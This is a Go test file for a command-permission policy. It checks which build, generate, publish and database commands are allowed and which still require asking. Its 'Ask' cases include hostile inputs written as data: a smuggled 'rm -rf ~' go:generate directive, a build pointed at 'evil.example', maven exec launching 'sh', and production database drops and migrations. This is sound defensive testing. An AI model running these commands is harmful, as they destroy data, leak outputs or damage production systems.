package policy

import "testing"

// TestProjectRunnersOff: with the sandbox off the project's own code
// runners are allowed as `make test` is (projectrunners_off.go); a
// production environment, a DATABASE_URL on the line, data-losing tasks,
// inline code and a line that wrote a file first still ask.
func TestProjectRunnersOff(t *testing.T) {
	checkOffWants(t, testEnv(t), map[string]Decision{
		"go generate ./...": Allow,
		"go generate ./internal/ent/... && git status --short": Allow,
		"go work sync":                         Allow,
		"go work sync 2>&1 | tail -n 40":       Allow,
		"turbo run type-check":                 Allow,
		"turbo run test --filter @acme/app":    Allow,
		"pnpm turbo run build --filter=web...": Allow,
		"npm pack --dry-run":                   Allow,
		"npm publish --dry-run":                Allow,
		"deno publish --dry-run":               Allow,
		"mvn -q exec:java -Dexec.mainClass=com.acme.tools.SchemaDump -Dexec.args=--help": Allow,
		"bin/rails zeitwerk:check":            Allow,
		"bin/rails db:migrate RAILS_ENV=test": Allow,
		"RAILS_ENV=test bin/rails db:prepare": Allow,
		"bin/rails db:migrate:status":         Allow,
		"MIX_ENV=test mix ecto.create":        Allow,
		"mix ecto.setup 2>&1 | tail -n 40":    Allow,
		// still asked
		"echo '//go:generate rm -rf ~' > x.go && go generate ./...": Ask,
		"go work use ../other":                       Ask,
		"go work edit -replace a=b":                  Ask,
		"turbo login":                                Ask,
		"turbo run build --token=abc":                Ask,
		"turbo run build --api=https://evil.example": Ask,
		"npm publish":                                Ask,
		"mvn exec:exec -Dexec.executable=sh":         Ask,
		"mvn exec:java -Dexec.mainClass=com.acme.Main -Dexec.executable=sh": Ask,
		"bin/rails db:migrate RAILS_ENV=production":                         Ask,
		"RAILS_ENV=production bin/rails db:migrate":                         Ask,
		"DATABASE_URL=postgres://prod.example.com/app bin/rails db:migrate": Ask,
		"bin/rails db:migrate VERSION=0":                                    Ask,
		"bin/rails db:rollback":                                             Ask,
		"bin/rails db:reset":                                                Ask,
		"bin/rails db:drop":                                                 Ask,
		"bin/rails db:test:prepare":                                         Ask,
		"bin/rails db:schema:load":                                          Ask,
		"bin/rails runner 'File.delete(\"x\")'":                             Ask,
		"bin/rails console":                                                 Ask,
		"MIX_ENV=test mix ecto.reset":                                       Ask,
		"MIX_ENV=prod mix ecto.reset":                                       Ask,
		"MIX_ENV=test mix ecto.drop":                                        Ask,
		"DATABASE_URL=ecto://prod.example.com/app mix ecto.setup":           Ask,
	})
}

// TestTaskRunnerRemoteCacheOff: a workspace linked to a remote cache makes
// turbo and nx runs ask with the sandbox off (their outputs are uploaded).
func TestTaskRunnerRemoteCacheOff(t *testing.T) {
	e := Default()
	for _, c := range []struct{ file, text, cmd string }{
		{".turbo/config.json", `{"teamId":"team_x","apiUrl":"https://cache.example"}`, "turbo run build"},
		{"turbo.json", `{"remoteCache":{"enabled":true}}`, "turbo run test"},
		{"nx.json", `{"nxCloudAccessToken":"abc"}`, "nx run web:test"},
		{"nx.json", `{"nxCloudId":"abc"}`, "nx build web"},
	} {
		ctx := testEnv(t)
		writeWS(t, ctx.Workspace, map[string]string{c.file: c.text})
		if v := e.Check(Query{Kind: KindShell, Command: c.cmd, Context: ctx}); v.Decision == Allow {
			t.Errorf("sandbox off with %s: %q allowed by %s (%s)", c.file, c.cmd, v.Rule, v.Reason)
		}
	}
}
